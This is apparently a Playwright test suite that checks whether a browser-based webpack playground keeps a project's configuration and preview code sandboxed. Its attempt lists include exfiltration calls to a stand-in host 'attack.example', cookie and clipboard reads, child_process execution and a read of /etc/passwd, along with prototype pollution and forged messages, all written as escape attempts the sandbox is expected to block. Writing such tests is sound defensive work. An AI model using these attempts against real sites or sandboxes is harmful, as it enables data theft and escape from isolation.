import type { Page } from "@playwright/test";
import { launchChromium } from "../scripts/browser";
import { filesToHash } from "../src/components/playground/share";
import { openEngine, openPage } from "../src/playground/testing/drive";
import { expect, test } from "./support/test";

// What the code of a project may not do, wherever it runs: as a configuration in the worker of the
// engine, or as output in the preview.

test.use({ serviceWorkers: "block" });
test.describe.configure({ timeout: 120_000 });

const OTHER = "https://attack.example/";

/** Expressions that succeed only if they reach something. */
const everywhere: readonly [name: string, attempt: string][] = [
  ["fetches a page of the site", "fetch(SITE + 'concepts/?leak')"],
  ["fetches from another host", "fetch(OTHER + '?leak', { mode: 'no-cors' })"],
  [
    "sends an XMLHttpRequest",
    "new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = fail; x.open('GET', SITE + '?leak'); x.send(); })",
  ],
  [
    "opens a WebSocket",
    "new Promise((done, fail) => { const s = new WebSocket('wss://attack.example/?leak'); s.onopen = done; s.onerror = fail; })",
  ],
  [
    "opens a stream of events",
    "new Promise((done, fail) => { const s = new EventSource(SITE + '?leak'); s.onopen = done; s.onerror = fail; })",
  ],
  [
    "imports a script of the site",
    "(0, eval)('import(' + JSON.stringify(SITE + 'sw.js?leak') + ')')",
  ],
  [
    "imports a script of another host",
    "(0, eval)('import(' + JSON.stringify(OTHER + '?leak') + ')')",
  ],
  [
    "opens a database",
    "new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = fail; })",
  ],
  ["opens a cache", "caches.open('x')"],
  ["reads cookies", "globalThis.document ? document.cookie + '!' : cookieStore.getAll()"],
  ["asks for files", "navigator.storage.getDirectory()"],
  ["takes a lock of the site", "navigator.locks.request('x', () => 'got')"],
  [
    "starts a worker that fetches",
    "new Promise((done, fail) => { const text = 'fetch(' + JSON.stringify(SITE + '?leak') + ').then(() => postMessage(1), () => postMessage(0))'; const w = new Worker(URL.createObjectURL(new Blob([text]))); w.onmessage = ({ data }) => data ? done() : fail(); w.onerror = fail; })",
  ],
];

const inWorker: typeof everywhere = [
  ["loads a script of the site", "importScripts(SITE + 'sw.js?leak')"],
  ["loads a script of another host", "importScripts(OTHER + '?leak')"],
  ["starts a process", "require('child_process').execSync('ls')"],
  ["reads a file of the machine", "require('fs').readFileSync('/etc/passwd')"],
];

const inPreview: typeof everywhere = [
  ["reads the local storage", "localStorage.length"],
  ["reads the session storage", "sessionStorage.length"],
  ["registers a service worker", "navigator.serviceWorker.register(SITE + 'sw.js')"],
  ["reads the page", "parent.document.body.innerHTML"],
  ["reads the frame of the engine", "parent.frames[0].document.body"],
  ["navigates the page", "(top.location = OTHER + '?leak')"],
  ["opens a window", "window.open(SITE + '?leak').document"],
  ["reads the clipboard", "navigator.clipboard.readText()"],
  [
    "asks where the reader is",
    "new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail))",
  ],
  [
    "shows an image of another host",
    "new Promise((done, fail) => { const i = new Image(); i.onload = done; i.onerror = fail; i.src = OTHER + '?leak'; })",
  ],
  [
    "loads a stylesheet of the site",
    "new Promise((done, fail) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = done; l.onerror = fail; l.href = SITE + 'x.css?leak'; document.head.append(l); })",
  ],
  [
    "shows a page of the site in a frame",
    "new Promise((done, fail) => { const f = document.createElement('iframe'); f.onload = () => f.contentDocument ? done() : fail(); f.src = SITE + '?leak'; document.body.append(f); setTimeout(fail, 500); })",
  ],
  ["asks the reader", "confirm('x') ? 1 : Promise.reject()"],
  [
    "sends a beacon",
    "navigator.sendBeacon(OTHER + '?leak', 'x') ? Promise.reject() : Promise.reject()",
  ],
  [
    "submits a form",
    "new Promise((done, fail) => { const f = document.createElement('form'); f.action = OTHER + '?leak'; document.body.append(f); f.submit(); setTimeout(fail, 300); })",
  ],
  [
    "downloads a file",
    "new Promise((done, fail) => { const a = document.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x.txt'; a.click(); setTimeout(fail, 300); })",
  ],
];

/** A script that tries everything: `tried` are the promised names of what succeeded. */
const toScript = (rows: typeof everywhere, site: string): string =>
  `const SITE = ${JSON.stringify(site)}, OTHER = ${JSON.stringify(OTHER)};
const channel = new BroadcastChannel("playground-threats");
channel.postMessage("heard");
const rows = {${rows.map(([name, attempt]) => `${JSON.stringify(name)}: () => ${attempt}`).join(",\n")}};
const wait = () => new Promise((_, fail) => setTimeout(fail, 3000));
const tried = Object.entries(rows).map(async ([name, attempt]) => {
  try { await Promise.race([attempt(), wait()]); return name; } catch { return ""; }
});
`;

/** What left the frames, whoever asked for it. */
async function watchLeaks(page: Page): Promise<string[]> {
  const leaks: string[] = [];
  await page.context().route(/[?]leak/, async (route) => {
    leaks.push(route.request().url());
    await route.abort();
  });
  page.on("popup", () => leaks.push("a window"));
  page.on("download", () => leaks.push("a download"));
  page.on("dialog", async (dialog) => {
    leaks.push("a dialog");
    await dialog.dismiss();
  });
  await openPage(page);
  await page.evaluate(() => {
    document.cookie = "secret=1";
    new BroadcastChannel("playground-threats").onmessage = () => {
      document.title = "heard";
    };
  });
  return leaks;
}

const PLAIN = { "package.json": '{ "name": "x" }', "src/index.js": "console.log('done');\n" };
const DEVELOPMENT = 'mode: "development", devtool: false';

test.beforeEach(({ consoleGuard }) => {
  // The browser says what it refused.
  consoleGuard.allow(/./);
});

test("a configuration reaches nothing of the site and no other host", async ({ page, baseURL }) => {
  const leaks = await watchLeaks(page);
  const engine = await openEngine(page);
  const rows = [...everywhere, ...inWorker];
  const script = toScript(rows, `${baseURL ?? ""}/`);
  const config = `${script}
module.exports = async () => {
  const reached = (await Promise.all(tried)).filter(Boolean);
  throw new Error("tried " + tried.length + ", reached " + reached.join(", "));
};`;
  const { problems } = await engine.build({ ...PLAIN, "webpack.config.js": config });
  expect(problems.map(({ message }) => message)).toEqual([`tried ${rows.length}, reached `]);
  expect(leaks).toEqual([]);
  await expect(page).not.toHaveTitle("heard");
});

test("the output of a build reaches nothing of the site and no other host", async ({
  page,
  baseURL,
}) => {
  const leaks = await watchLeaks(page);
  const engine = await openEngine(page);
  const rows = [...everywhere, ...inPreview];
  const script = `${toScript(rows, `${baseURL ?? ""}/`)}
Promise.all(tried).then((all) => console.log("tried " + all.length + ", reached " + all.filter(Boolean).join(", ")));`;
  await engine.preview({
    ...PLAIN,
    "webpack.config.js": `module.exports = { ${DEVELOPMENT} };`,
    "src/index.js": script,
  });
  await expect.poll(engine.lines, { timeout: 20_000 }).toContain(`tried ${rows.length}, reached `);
  expect(leaks).toEqual([]);
  await expect(page).not.toHaveTitle("heard");
  expect(new URL(page.url()).pathname).toBe("/playground/");
});

test("the preview can't leave for another host", async ({ page }) => {
  const leaks = await watchLeaks(page);
  const engine = await openEngine(page);
  await engine.preview({
    ...PLAIN,
    "webpack.config.js": `module.exports = { ${DEVELOPMENT} };`,
    "src/index.js": `console.log("leaving"); location.href = "${OTHER}?leak";`,
  });
  await expect.poll(engine.lines).toContain("leaving");
  await page.waitForTimeout(500);
  expect(leaks).toEqual([]);
});

test("messages of the preview are no messages of the engine or the page", async ({ page }) => {
  await watchLeaks(page);
  const engine = await openEngine(page);
  const forged = { type: "result", id: 2, result: { output: "forged", files: [], problems: [] } };
  const build = { type: "build", id: 99, files: {} };
  await engine.preview({
    ...PLAIN,
    "webpack.config.js": `module.exports = { ${DEVELOPMENT} };`,
    "src/index.js": `setInterval(() => {
      parent.postMessage(${JSON.stringify(forged)}, "*");
      parent.frames[0].postMessage(${JSON.stringify(build)}, "*");
      parent.frames[0].postMessage({ type: "stop" }, "*");
    }, 1);
    console.log("sending");`,
  });
  await expect.poll(engine.lines).toContain("sending");
  const { output } = await engine.build(PLAIN);
  expect(output).toContain("compiled with 1 warning");
});

test("what a configuration changes for all code doesn't outlive it", async ({ page }) => {
  await watchLeaks(page);
  const engine = await openEngine(page);
  const clean = { ...PLAIN, "webpack.config.js": `module.exports = { ${DEVELOPMENT} };` };
  const before = await engine.build(clean);
  await engine.build({
    ...PLAIN,
    "webpack.config.js": `Object.prototype.mode = "production";
Array.prototype.map = () => [];
JSON.parse = () => ({});
globalThis.fetch = globalThis.postMessage;
module.exports = {};`,
  });
  const after = await engine.build(clean);
  expect(after.exitCode).toBe(0);
  expect(after.files).toEqual(before.files);
});

test("an endless loop and a gigabyte of output end with a sentence", async ({ page }) => {
  await watchLeaks(page);
  const engine = await openEngine(page);
  const large = await engine.build({
    ...PLAIN,
    "webpack.config.js": `module.exports = { ${DEVELOPMENT}, plugins: [{
      apply({ hooks, webpack }) {
        hooks.thisCompilation.tap("x", (compilation) => {
          compilation.hooks.processAssets.tap("x", () => {
            const part = new webpack.sources.RawSource("x".repeat(1e6));
            compilation.emitAsset("large.txt", new webpack.sources.ConcatSource(...Array(1000).fill(part)));
          });
        });
      },
    }] };`,
  });
  expect(large.problems[0]?.message).toBe("The output is larger than 64 MB.");
  const endless = { ...PLAIN, "webpack.config.js": "for (;;);" };
  expect(await engine.ask({ type: "build", files: endless })).toMatchObject({
    type: "ended",
    reason: "timeout",
    message: "The build took longer than 20 s and was ended.",
  });
  const after = await engine.build(PLAIN);
  expect(after.exitCode).toBe(0);
});

test("an endless loop in a preview leaves the page alone where frames have processes", async ({
  baseURL,
}) => {
  // As desktop browsers do by default.
  const browser = await launchChromium([
    "--site-per-process",
    "--enable-features=IsolateSandboxedIframes",
  ]);
  try {
    const page = await browser.newPage();
    const project = filesToHash({
      "src/index.js": 'console.log("last"); setTimeout(() => { for (;;); });',
    });
    await page.goto(`${baseURL ?? ""}/playground/${project}`);
    await page.getByRole("tab", { name: "Preview" }).click();
    await expect(page.getByText("last", { exact: true })).toBeVisible({ timeout: 30_000 });
    await page.getByRole("tab", { name: "Output" }).click();
    await expect(page.getByRole("tabpanel", { name: "Output" })).toContainText(" compiled ");
  } finally {
    await browser.close();
  }
});
